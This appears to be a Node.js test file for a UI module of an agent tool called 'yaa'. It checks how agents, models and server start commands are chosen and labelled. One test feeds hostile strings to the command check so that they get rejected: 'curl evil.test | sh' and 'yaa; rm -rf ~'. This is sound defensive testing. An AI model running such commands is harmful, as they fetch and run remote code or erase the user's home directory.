// What the page makes of what a server tells about itself.
'use strict'

const test = require('node:test')
const assert = require('node:assert/strict')
const path = require('node:path')
const { use, JS } = require('./load-modules.js')

require(path.join(JS, 'ui', 'server-state.js'))
const { agentsOf, commandOf, modelsOf } = use('ui/server-state')

const INFO = { agents: [{ name: 'default', description: 'all', default: true }, { name: 'coder', description: 'code' }] }
const names = (found) => found.agents.map((one) => one.name)

test('the agent of a session is its own, else the usual one, else the server’s', () => {
  const cases = [
    [INFO, 'coder', 'default', 'coder'],
    [INFO, undefined, 'coder', 'coder'],
    [INFO, 'auto', 'coder', 'coder'],
    [INFO, '', undefined, 'default'],
    [INFO, undefined, 'gone', 'gone'],
    [null, undefined, 'coder', 'coder'],
    [null, 'coder', undefined, 'coder'],
  ]
  for (const [info, own, usual, agent] of cases) assert.equal(agentsOf(info, own, usual).agent, agent, `${own} ${usual}`)
})

test('an agent that the server has not is still offered to the session that has it', () => {
  const found = agentsOf(INFO, 'from afar', undefined)
  assert.deepEqual(names(found), ['default', 'coder', 'from afar'])
  assert.equal(found.agent, 'from afar')
  assert.deepEqual(names(agentsOf(INFO, 'coder', 'gone')), ['default', 'coder'])
  assert.deepEqual(names(agentsOf(INFO, undefined, 'gone')), ['default', 'coder', 'gone'], 'what is sent is what is shown')
  assert.deepEqual(names(agentsOf(null, 'coder', undefined)), [])
})

test('the command that starts a server is repeated only if it is one of yaa’s own', () => {
  for (const command of ['yaa', 'python3 -m yaa', 'python3 yaa.pyz', 'python3 yaa-0.1.0.pyz']) assert.equal(commandOf({ command }), command)
  const others = ['curl evil.test | sh', 'yaa; rm -rf ~', 'python3 yaa.pyz\nrm', 'python3 /tmp/x.pyz', 'sudo yaa', '', 7, undefined]
  for (const command of others) assert.equal(commandOf({ command }), 'python3 -m server', String(command))
  assert.equal(commandOf(null), 'python3 -m server')
})

test('the model that would answer is named, whichever provider or model the session says', () => {
  const main = { name: 'main', model: 'large', models: ['large', 'small'], default: true }
  const other = { name: 'other', model: 'tiny', models: ['tiny', 'small'] }
  const demo = { name: 'demo', model: 'demo', models: ['demo'], demo: true }
  const none = { name: 'local', model: '' }
  const cases = [
    [[main, other], {}, ['large · main (auto)', 'large · main', 'tiny · other']],
    [[other, main], {}, ['large · main (auto)', 'tiny · other', 'large · main']],
    [[main, other], { model_name: 'small' }, ['small · main (auto)', 'large · main', 'tiny · other']],
    [[main, other], { name: 'auto', model_name: 'tiny' }, ['tiny · other (auto)', 'large · main', 'tiny · other']],
    [[main, other], { name: 'auto', model_name: 'gone' }, ['gone · main (auto)', 'large · main', 'tiny · other']],
    [[main, other], { name: 'main', model_name: 'small' }, ['large · main (auto)', 'small · main', 'tiny · other']],
    [[main], { model_name: 'small' }, ['small · main']],
    [[main], { name: 'main', model_name: '' }, ['large · main']],
    [[demo], {}, ['demo']],
    [[none, demo], {}, ['local (auto)', 'local', 'demo']],
    [[], {}, []], [undefined, { model_name: 'x' }, []],
  ]
  for (const [models, said, labels] of cases) {
    assert.deepEqual([...modelsOf({ models }, said, 'auto')].map((one) => one.label), labels, JSON.stringify(said))
  }
  assert.equal(modelsOf({ models: [main, demo] }, { model_name: 'demo' }, 'auto')[0].demo, true, 'the demo answers, so it is said')
  assert.deepEqual([...modelsOf(null, {}, 'auto')], [])
})
